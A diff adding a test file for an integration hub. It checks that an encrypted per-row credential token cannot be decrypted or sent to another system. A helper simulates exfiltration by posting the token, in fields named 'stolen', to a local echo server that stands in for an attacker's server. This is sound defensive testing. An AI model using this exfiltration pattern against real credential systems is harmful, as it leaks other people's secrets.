@@ -1,0 +1,241 @@
+/**
+ * A caller who may use a row's credential can neither read it nor carry it to another system, also when the
+ * row's outside system echoes it: its token opens in calls of that row only.
+ */
+import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
+import type { KeyList } from "@hub/contract/key.ts";
+import { readLastRun } from "./support/audit.ts";
+import { connectHttp } from "./support/connect-sdk-1.ts";
+import { createDataFolder } from "./support/data-folder.ts";
+import { type EchoServer, startEchoServer } from "./support/echo-server.ts";
+import type { TestClient } from "./support/mcp-client.ts";
+import { createPageBrowser, type PageBrowser } from "./support/page-browser.ts";
+import { type RunningHub, startHub } from "./support/start-hub.ts";
+
+setDefaultTimeout(60_000);
+
+const secret = "row-credential-4711-XYZ";
+const password = "a long enough pass phrase";
+const email = "ada@example.com";
+const boundMessage = "it stands for a secret of a row and works only there";
+
+const owned = new AsyncDisposableStack();
+let dataDir: string;
+/** Where the credential belongs; it echoes what it is sent. */
+let careless: EchoServer;
+/** A server of the attacker's choice. */
+let collecting: EchoServer;
+let hub: RunningHub;
+let adaToken: string;
+let carelessRow: string;
+let collectingRow: string;
+/** A token of the row's secret, made while `HUB_ROW_TOKENS` was `user`. */
+let olderToken: string;
+
+beforeAll(async () => {
+  dataDir = owned.use(await createDataFolder()).path;
+  careless = owned.use(startEchoServer());
+  collecting = owned.use(startEchoServer());
+});
+afterAll(() => owned.disposeAsync());
+
+async function addRow(label: string, url: string, ...more: string[]): Promise<string> {
+  const flags = ["--label", label, "--tag", "red", "--set", `base_url=${url}`, "--json"];
+  const args = ["row", "add", "http", ...flags, ...more];
+  const added = await hub.tryCli(args, { env: { SECRET: secret } });
+  return added.json<{ id: string }>().id;
+}
+
+/** The row's secret as a caller gets it: the token that the echo holds. */
+async function readEcho(client: TestClient): Promise<string> {
+  const { value, text } = await client.execute(`conn:${carelessRow}/get`, { path: "/echo" });
+  expect(text).not.toContain(secret);
+  return /hub_enc_[\w-]+/.exec(value.body.headers.authorization)?.[0] ?? "";
+}
+
+async function signIn(): Promise<PageBrowser> {
+  const browser = createPageBrowser(hub.url);
+  await browser.go("/profile");
+  await browser.submit("/auth/login", { email, password });
+  return browser;
+}
+
+async function decrypt(token: string): Promise<{ status: number; html: string }> {
+  const browser = await signIn();
+  await browser.go("/tools/encfields/decrypt");
+  const { status } = await browser.submit("/tools/encfields/decrypt", { value: `x ${token}` });
+  return { status, html: browser.html() };
+}
+
+/** What reached the attacker's server with a param, in a body, a header and a query. */
+async function sendAway(client: TestClient, token: string) {
+  collecting.received.length = 0;
+  const ways: Record<string, unknown>[] = [
+    { body: { stolen: token } },
+    { headers: { "x-stolen": `Bearer ${token}` } },
+    { query: { stolen: `${token}-prod` } },
+    { body: `text with ${token}` },
+  ];
+  const codes: string[] = [];
+  for (const way of ways) {
+    const params = { path: "/echo", ...way };
+    const { value } = await client.execute(`conn:${collectingRow}/post`, params);
+    codes.push(value.code ?? value.status);
+    if (value.code !== undefined) expect(value.error).toContain(boundMessage);
+  }
+  return { codes, received: JSON.stringify(collecting.received).split(secret).length - 1 };
+}
+
+describe("with HUB_ROW_TOKENS=user, as before", () => {
+  beforeAll(async () => {
+    hub = await startHub({ dataDir, env: { HUB_ROW_TOKENS: "user" } });
+    const ada = await hub.addUser(email, { tags: ["red"] });
+    adaToken = ada.token;
+    const bearer = ["--set", "auth_mode=bearer", "--secret-env", "token=SECRET"];
+    carelessRow = await addRow("Careless", careless.url, ...bearer);
+    collectingRow = await addRow("Collecting", collecting.url);
+    const made = await hub.cli("user", "password", email, "--json");
+    const once = made.json<{ one_time_password: string }>().one_time_password;
+    const browser = createPageBrowser(hub.url);
+    await browser.go("/profile");
+    await browser.submit("/auth/login", { email, password: once });
+    const change = { current: once, new_password: password, repeated: password };
+    await browser.submit("/auth/password", change);
+  });
+  afterAll(() => hub.stop());
+
+  test("a row's token opens in other rows and on the decrypt page of its user", async () => {
+    await using client = await connectHttp(hub.url, adaToken);
+    olderToken = await readEcho(client);
+    expect(await sendAway(client, olderToken)).toEqual({
+      codes: [200, 200, 200, 200],
+      received: 4,
+    });
+    const page = await decrypt(olderToken);
+    expect(page).toEqual({ status: 200, html: expect.stringContaining(secret) });
+  });
+
+  test("hub doctor says what that means", async () => {
+    const { checks } = (await hub.tryCli(["doctor", "--json"])).json<{ checks: unknown[] }>();
+    expect(checks).toContainEqual({
+      name: "masking",
+      status: "warn",
+      message: expect.stringContaining("HUB_ROW_TOKENS"),
+    });
+  });
+});
+
+describe("with HUB_ROW_TOKENS=bound, the default", () => {
+  let client: TestClient;
+  let token: string;
+
+  beforeAll(async () => {
+    hub = await startHub({ dataDir });
+    client = await connectHttp(hub.url, adaToken);
+    token = await readEcho(client);
+  });
+  afterAll(async () => {
+    await client[Symbol.asyncDispose]();
+    await hub.stop();
+  });
+
+  test("a row's token sends the credential nowhere but to that row's system (attack)", async () => {
+    const refused = Array.from({ length: 4 }, () => "token_invalid");
+    expect(await sendAway(client, token)).toEqual({ codes: refused, received: 0 });
+    expect(collecting.received).toEqual([]);
+    expect(readLastRun(dataDir)).toMatchObject({ status: "denied", error_code: "token_invalid" });
+  });
+
+  test("a row's token is not read on the decrypt page (attack)", async () => {
+    const page = await decrypt(token);
+    expect(page.status).toBe(422);
+    expect(page.html).toContain(boundMessage);
+    expect(page.html).not.toContain(secret);
+  });
+
+  test("a row's token opens in calls of that row, and comes back as the same token", async () => {
+    const params = { path: "/echo", headers: { "x-again": `key ${token}` } };
+    const { value, text } = await client.execute(`conn:${carelessRow}/get`, params);
+    expect(careless.received.at(-1)?.headers["x-again"]).toBe(`key ${secret}`);
+    expect(value.body.headers["x-again"]).toBe(`key ${token}`);
+    expect(text).not.toContain(secret);
+  });
+
+  test("a retry opens a row's token in its row, also of a run from the record", async () => {
+    const params = { path: "/echo", body: { key: token } };
+    await client.execute(`conn:${carelessRow}/post`, params);
+    const run = readLastRun(dataDir);
+    const url = `${hub.url}/manager/api/runs/${run.id}/retry`;
+    const headers = { authorization: `Bearer ${adaToken}`, "content-type": "application/json" };
+    const response = await fetch(url, { method: "POST", headers, body: "{}" });
+    expect(response.status).toBe(200);
+    expect(careless.received.at(-1)?.body).toBe(JSON.stringify({ key: secret }));
+    expect(await response.text()).not.toContain(secret);
+  });
+
+  test("an admin's test of another row opens it as little", async () => {
+    await using admin = await connectHttp(hub.url, await makeAdminToken());
+    const own = await readEcho(admin);
+    expect(own).not.toBe(token);
+    const url = `${hub.url}/manager/api/rows/${collectingRow}/operations/post/test`;
+    const headers = {
+      authorization: `Bearer ${await makeAdminToken()}`,
+      "content-type": "application/json",
+    };
+    const params = { path: "/echo", body: { key: own } };
+    const response = await fetch(url, {
+      method: "POST",
+      headers,
+      body: JSON.stringify({ params }),
+    });
+    expect([response.status, Object(await response.json()).code]).toEqual([422, "token_invalid"]);
+  });
+
+  test("what the caller encrypted opens in every row, and stays the caller's where it equals the row's secret", async () => {
+    const browser = await signIn();
+    await browser.go("/tools/encfields");
+    await browser.submit("/tools/encfields", { value: secret });
+    const own = /hub_enc_[\w-]+/.exec(browser.html())?.[0] ?? "";
+    expect((await sendAway(client, own)).received).toBe(4);
+    const params = { path: "/echo", body: { key: own } };
+    const { value } = await client.execute(`conn:${carelessRow}/post`, params);
+    expect(value.body.body).toBe(JSON.stringify({ key: own }));
+    expect(value.body.headers.authorization).toBe(`Bearer ${own}`);
+  });
+
+  test("a duplicated row starts without secrets, and opens no token of the first", async () => {
+    const headers = {
+      authorization: `Bearer ${await makeAdminToken()}`,
+      "content-type": "application/json",
+    };
+    const ask = (method: string, path: string, body: unknown) =>
+      fetch(`${hub.url}/manager/api${path}`, { method, headers, body: JSON.stringify(body) });
+    const copy = Object(await (await ask("POST", `/rows/${carelessRow}/duplicate`, {})).json());
+    const path = `/rows/${copy.id}/operations/get/test`;
+    const bare = Object(await (await ask("POST", path, { params: { path: "/echo" } })).json());
+    expect(bare).toMatchObject({ code: "needs_setup", missing: ["token"] });
+    await hub.cli("row", "set", copy.id, "--set", "auth_mode=none");
+    const params = { path: "/echo", query: { key: token } };
+    const tried = Object(await (await ask("POST", path, { params })).json());
+    expect(tried.code).toBe("token_invalid");
+  });
+
+  test("tokens from before open where they did until their key is removed", async () => {
+    expect((await sendAway(client, olderToken)).received).toBe(4);
+    expect((await decrypt(olderToken)).html).toContain(secret);
+    await hub.cli("keys", "rotate");
+    expect((await sendAway(client, olderToken)).received).toBe(4);
+    const { keys } = (await hub.cli("keys", "list", "--json")).json<KeyList>();
+    await hub.cli("keys", "remove", keys.find(({ sealing }) => !sealing)?.id ?? "");
+    const params = { path: "/echo", body: olderToken };
+    const refused = await client.execute(`conn:${collectingRow}/post`, params);
+    expect(refused.value.code).toBe("token_invalid");
+    expect((await decrypt(olderToken)).status).toBe(422);
+    expect(await readEcho(client)).toStartWith("hub_enc_");
+  });
+});
+
+async function makeAdminToken(): Promise<string> {
+  const args = ["token", "create", "--user", "admin@localhost", "--name", "test", "--json"];
+  return (await hub.cli(...args)).json<{ token: string }>().token;
+}
